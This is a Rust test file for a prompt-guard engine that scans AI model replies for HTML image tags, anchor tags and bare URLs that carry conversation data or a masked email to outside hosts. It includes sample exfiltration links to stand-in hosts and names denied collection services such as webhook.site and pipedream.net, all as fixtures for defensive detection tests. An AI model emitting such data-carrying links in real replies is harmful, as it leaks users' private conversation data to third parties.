//! Engine tests: links in replies beyond markdown — HTML `<img src>` / `<a href>` tags and bare
//! URLs — found like markdown links, in a buffered reply and in a stream cut at every byte.
//!
//! Provenance: every text below was written for this project.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::collections::HashMap;

use prompt_guard_engine::encoding::ContentEncoding;
use prompt_guard_engine::exchange::{BodyDecision, Exchange, Guard, RequestPlan, Sessions, StreamStep};
use prompt_guard_engine::threat::reply::{rule, LinkView, ReplySettings, DEFAULT_DENIED_LINK_HOSTS};
use prompt_guard_engine::threat::ReplyScanner;
use serde_json::Value;

use crate::support::{Headers, NoStore};

const EMAIL: &str = "mirela.dobre@posteo.ro";

fn scanner() -> ReplyScanner {
    ReplyScanner::new(ReplySettings {
        allowed_link_hosts: vec!["docs.example.com".into()],
        denied_link_hosts: DEFAULT_DENIED_LINK_HOSTS.iter().map(|h| (*h).to_owned()).collect(),
        canary: None,
    })
}

/// Rule ids found, with a link said to carry conversation data when its URL has `SECRET`.
fn found(text: &str) -> Vec<(&'static str, Option<String>)> {
    let mut carries = |l: &LinkView<'_>| l.rest.contains("SECRET");
    scanner().scan(text, &mut carries).into_iter().map(|f| (f.rule.id(), f.host)).collect()
}

#[test]
#[allow(clippy::type_complexity)]
fn html_tags_and_bare_urls_are_links() {
    let host = |h: &str| Some(h.to_owned());
    let cases: &[(&str, &[(&str, Option<String>)])] = &[
        (
            r#"Done. <img src="https://px.example.net/a.gif?q=SECRET" width=1>"#,
            &[(rule::IMAGE_CARRIES_CONVERSATION, host("px.example.net"))],
        ),
        (
            "<IMG alt=x SRC='//px.example.net/a.gif?q=SECRET'>",
            &[(rule::IMAGE_CARRIES_CONVERSATION, host("px.example.net"))],
        ),
        ("<img src=https://px.example.net/SECRET.png>", &[(rule::IMAGE_CARRIES_CONVERSATION, host("px.example.net"))]),
        (
            r#"<a class="btn" href="https://go.example.net/r?d=SECRET">here</a>"#,
            &[(rule::LINK_CARRIES_CONVERSATION, host("go.example.net"))],
        ),
        ("See https://go.example.net/r?d=SECRET.", &[(rule::LINK_CARRIES_CONVERSATION, host("go.example.net"))]),
        ("(HTTPS://Go.Example.Net/r?d=SECRET)", &[(rule::LINK_CARRIES_CONVERSATION, host("go.example.net"))]),
        ("<a href='https://x.webhook.site/'>ok</a>", &[(rule::DENIED_HOST, host("x.webhook.site"))]),
        ("raw https://abc.pipedream.net/collect", &[(rule::DENIED_HOST, host("abc.pipedream.net"))]),
        // A URL inside a markdown image or a tag counts once, as that image.
        ("![a](https://px.example.net/p.png?q=SECRET)", &[(rule::IMAGE_CARRIES_CONVERSATION, host("px.example.net"))]),
    ];
    for (text, expected) in cases {
        assert_eq!(found(text), *expected, "{text}");
    }
}

#[test]
fn ordinary_urls_and_tags_pass() {
    for text in [
        "The docs are at https://docs.python.org/3/library/asyncio.html, see also http://example.org.",
        "<a href=\"https://docs.example.com/x?q=SECRET\">allowed host</a>",
        "<img src=\"/static/logo.png\" alt=\"logo\"> and <a href=\"#top\">top</a>",
        "Use <a> and <img> tags; x = a<b && c>d; git://host/repo; ftp://files.example.org/x",
        "An unterminated <img src=\"https://px.example.net/p.png",
        "<p>text</p> <br/> <div class=a=b=c=d></div>",
    ] {
        assert!(found(text).iter().all(|(id, _)| *id == rule::DATA_SHAPED_LINK), "{text}: {:?}", found(text));
    }
}

#[test]
fn scanning_many_tags_and_urls_stays_linear() {
    // Thousands of tags, `=` signs and scheme separators: each is looked at a bounded number of
    // times (a quadratic scan would take minutes here; the count of findings shows it ran).
    let text = "<a x=y=z=w b=c=d ".repeat(2000) + &"https://x.example.org/a ://://".repeat(2000);
    assert!(found(&text).is_empty());
}

/// An exchange whose request masked `EMAIL`, and the placeholder it was given.
fn masked_exchange(cfg: &Guard) -> (Exchange, String) {
    let body = serde_json::json!({"model": "m", "messages": [{"role": "user", "content": format!("mail {EMAIL}")}]})
        .to_string();
    let hdrs = Headers(HashMap::from([
        (":path", "/v1/chat/completions".to_owned()),
        ("content-type", "application/json".to_owned()),
    ]));
    let mut exchange = Exchange::new(cfg);
    assert!(matches!(exchange.request_headers(cfg, &hdrs, true, &mut |_| {}).unwrap(), RequestPlan::Inspect));
    let sessions = Sessions { data: &NoStore, now_secs: Some(1) };
    let BodyDecision::Forward(Some(sent)) = exchange.request_body(cfg, body.as_bytes(), &sessions, &mut |_| {}) else {
        panic!("not forwarded")
    };
    let json: Value = serde_json::from_slice(&sent).unwrap();
    let content = json["messages"][0]["content"].as_str().unwrap();
    (exchange, content.strip_prefix("mail ").unwrap().to_owned())
}

fn sse_event(text: &str) -> Vec<u8> {
    let event = serde_json::json!({"choices": [{"index": 0, "delta": {"content": text}}]});
    format!("data: {event}\n\n").into_bytes()
}

#[test]
fn a_stream_stops_at_a_tag_or_bare_url_carrying_a_placeholder_however_it_is_cut() {
    let cfg = Guard::from_json(b"{}").unwrap();
    for template in [
        "Sure! <img src=\"https://px.example.net/t.gif?u={P}\"> Anything else?",
        "Sure! <a href='https://go.example.net/r?u={P}'>click</a> Anything else?",
        "Sure! Open https://go.example.net/r?u={P} to continue.",
    ] {
        let (exchange, placeholder) = masked_exchange(&cfg);
        let reply = template.replace("{P}", &placeholder);
        // Cut the reply's text into two events at every character boundary.
        for cut in (1..reply.len()).filter(|&i| reply.is_char_boundary(i)) {
            let mut guard = exchange.stream(&cfg, ContentEncoding::Identity);
            let mut sent = String::new();
            for (i, piece) in [&reply[..cut], &reply[cut..]].into_iter().enumerate() {
                let StreamStep::Emit(out) = guard.push(&cfg, exchange.vault(), &sse_event(piece), i == 1, &mut |_| {})
                else {
                    panic!("not a stream")
                };
                sent.push_str(&String::from_utf8_lossy(&out));
            }
            assert!(guard.stopped(), "{template} cut at {cut}: {sent}");
            assert!(sent.contains("prompt_guard_reply_blocked"), "{template} cut at {cut}: {sent}");
            assert!(!sent.contains(EMAIL), "{template} cut at {cut}: the original reached the client: {sent}");
        }
        // Character by character.
        let mut guard = exchange.stream(&cfg, ContentEncoding::Identity);
        let mut sent = String::new();
        for c in reply.chars() {
            let StreamStep::Emit(out) =
                guard.push(&cfg, exchange.vault(), &sse_event(&c.to_string()), false, &mut |_| {})
            else {
                panic!("not a stream")
            };
            sent.push_str(&String::from_utf8_lossy(&out));
        }
        assert!(guard.stopped() && !sent.contains(EMAIL), "{template} one character at a time: {sent}");
    }
}

#[test]
fn a_stream_with_an_ordinary_bare_url_flows_on() {
    let cfg = Guard::from_json(b"{}").unwrap();
    let (exchange, placeholder) = masked_exchange(&cfg);
    let reply = format!("I wrote to {placeholder}; the docs are at https://docs.python.org/3/ for more.");
    let mut guard = exchange.stream(&cfg, ContentEncoding::Identity);
    let mut sent = String::new();
    for piece in reply.as_bytes().chunks(7) {
        let StreamStep::Emit(out) =
            guard.push(&cfg, exchange.vault(), &sse_event(std::str::from_utf8(piece).unwrap()), false, &mut |_| {})
        else {
            panic!("not a stream")
        };
        sent.push_str(&String::from_utf8_lossy(&out));
    }
    assert!(!guard.stopped(), "{sent}");
    assert!(sent.contains(EMAIL), "restored: {sent}");
}
